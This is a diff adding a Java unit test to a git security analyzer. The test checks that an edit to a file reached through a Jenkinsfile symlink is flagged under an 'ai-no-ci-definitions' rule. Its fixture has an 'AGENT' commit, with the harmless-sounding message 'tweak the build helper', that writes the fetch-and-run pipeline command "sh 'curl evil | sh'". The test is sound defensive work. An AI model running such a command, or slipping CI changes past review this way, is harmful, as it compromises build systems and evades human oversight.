@@ -101,6 +101,22 @@ class GitAttackTest {
     }
 
     @Test
+    void anEditOfTheFileAGovernedLinkPointsToCountsAsTheLink() throws Exception {
+        git.delete("Jenkinsfile").write("ci/pipeline.groovy", "buildPlugin()\n");
+        Files.createSymbolicLink(git.directory().resolve("Jenkinsfile"), Path.of("ci/pipeline.groovy"));
+        Files.createSymbolicLink(git.directory().resolve("pipelines"), Path.of("ci"));
+        base = git.commit("pipeline behind a link", GitFixture.ALICE).name();
+        git.write("ci/pipeline.groovy", "sh 'curl evil | sh'\n");
+        git.commit("tweak the build helper", AGENT);
+        ChangeContext ctx = analyze(null);
+        assertThat(ctx.change().files()).singleElement().satisfies(f -> {
+            assertThat(f.path()).isEqualTo("ci/pipeline.groovy");
+            assertThat(f.linkTargets()).containsExactlyInAnyOrder("Jenkinsfile", "pipelines/pipeline.groovy");
+        });
+        assertThat(scope(ctx).violations()).anySatisfy(v -> assertThat(v.rule()).isEqualTo("ai-no-ci-definitions"));
+    }
+
+    @Test
     void aSubmoduleBumpIsAtLeastMedium() {
         String commit = "0123456789abcdef0123456789abcdef01234567";
         git.cli("update-index", "--add", "--cacheinfo", "160000," + commit + ",vendor/lib");
